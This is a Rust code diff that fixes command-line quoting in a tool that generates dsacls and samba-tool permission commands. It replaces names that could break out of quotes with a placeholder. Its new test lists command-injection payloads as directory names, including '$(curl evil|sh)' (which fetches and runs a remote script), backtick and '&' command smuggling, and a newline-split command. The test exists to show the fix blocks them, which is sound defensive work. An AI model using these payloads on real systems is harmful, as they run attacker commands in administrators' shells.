@@ -8,6 +8,7 @@ use super::entry::bytes;
 use super::right::Right;
 use super::security_descriptor::{Malformed, SecurityDescriptor};
 use super::trustee::Trustee;
+use crate::protocol::untrusted::one_line;
 
 /// Which tool an administrator of this directory has at hand.
 #[derive(Clone, Copy, Debug, PartialEq, Eq)]
@@ -61,7 +62,8 @@ impl Tool {
         match self {
             Self::Dsacls => {
                 let (inherit, class) = if below { (" /I:S", ";user") } else { ("", "") };
-                let grants = rights.iter().map(|right| format!(" \"{}:{}{class}\"", trustee.name, right.dsacls()));
+                let grants =
+                    rights.iter().map(|right| format!(" \"{}:{}{class}\"", plain(&trustee.name), right.dsacls()));
                 format!("dsacls {}{inherit} /G{}", self.quoted(dn), grants.collect::<String>())
             }
             Self::SambaTool => {
@@ -77,7 +79,8 @@ impl Tool {
         match self {
             // It can't name a single entry.
             Self::Dsacls => {
-                format!("dsacls {} /R \"{who}\"   (removes all entries of {who} there)", self.quoted(dn))
+                let who = self.quoted(who);
+                format!("dsacls {} /R {who}   (removes all entries of {who} there)", self.quoted(dn))
             }
             Self::SambaTool => {
                 format!("samba-tool dsacl delete --objectdn={} --sddl={}", self.quoted(dn), self.quoted(sddl))
@@ -93,13 +96,25 @@ impl Tool {
         }
     }
 
-    /// For the command line that the tool is called from: a name may hold quotation marks and backslashes.
+    /// For the command line that the tool is called from: whoever may make a unit has chosen its name.
     fn quoted(self, text: &str) -> String {
         match self {
-            Self::Dsacls => format!("\"{}\"", text.replace('"', "\\\"")),
+            Self::Dsacls => format!("\"{}\"", plain(text)),
+            // Between single quotation marks, sh takes everything as it is; but a line is to stay one.
+            Self::SambaTool if one_line(text) != text => format!("'{NO_COMMAND_LINE}'"),
             Self::SambaTool => format!("'{}'", text.replace('\'', r"'\''")),
         }
     }
+}
+
+/// Stands in a command for a name that can't be written there.
+const NO_COMMAND_LINE: &str = "NAME-THAT-NO-COMMAND-LINE-TAKES";
+
+/// A name that both `cmd` and PowerShell take between quotation marks as it is; else a word that stands for it, since no
+/// spelling of it is safe in both.
+fn plain(name: &str) -> &str {
+    let ends_or_expands = |c: char| matches!(c, '"' | '“' | '”' | '„' | '$' | '`' | '%' | '!' | '^');
+    if name.contains(ends_or_expands) || one_line(name) != name { NO_COMMAND_LINE } else { name }
 }
 
 /// The access list of an object.
@@ -140,6 +155,28 @@ mod tests {
 
     fn trustee() -> Trustee {
         Trustee { name: "svc@corp.example".to_owned(), sid: None }
+    }
+
+    #[test]
+    fn no_name_is_more_than_a_name_in_a_command() {
+        for name in [
+            "OU=$(curl evil|sh),DC=c",
+            "OU=`id`,DC=c",
+            "OU=\\\"&calc,DC=c",
+            "OU=”;id,DC=c",
+            "OU=%TEMP%,DC=c",
+            "OU=a\nid,DC=c",
+            "OU=\u{202e},DC=c",
+        ] {
+            let trustee = Trustee { name: name.to_owned(), sid: None };
+            let command = Tool::Dsacls.grant(Right::ResetPassword, &trustee, name, Reach::UsersBelow);
+            let expected = r#"dsacls "NAME" /I:S /G "NAME:CA;Reset Password;user""#;
+            assert_eq!(command, expected.replace("NAME", NO_COMMAND_LINE), "{name}");
+            assert!(!Tool::Dsacls.remove_deny(name, name, "").contains(name));
+            let command = Tool::SambaTool.remove_deny(name, name, name);
+            let quoted = if one_line(name) == name { name } else { NO_COMMAND_LINE };
+            assert_eq!(command, format!("samba-tool dsacl delete --objectdn='{quoted}' --sddl='{quoted}'"));
+        }
     }
 
     #[test]
